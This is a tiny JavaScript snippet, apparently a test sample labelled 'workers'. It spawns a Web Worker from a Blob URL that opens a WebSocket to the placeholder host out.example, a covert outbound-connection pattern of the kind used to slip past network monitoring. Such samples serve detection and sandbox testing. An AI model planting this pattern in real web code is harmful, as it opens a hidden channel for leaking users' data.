/* {"family": "workers"} */
new Worker(URL.createObjectURL(new Blob(["new WebSocket('wss://out.example/');"])));
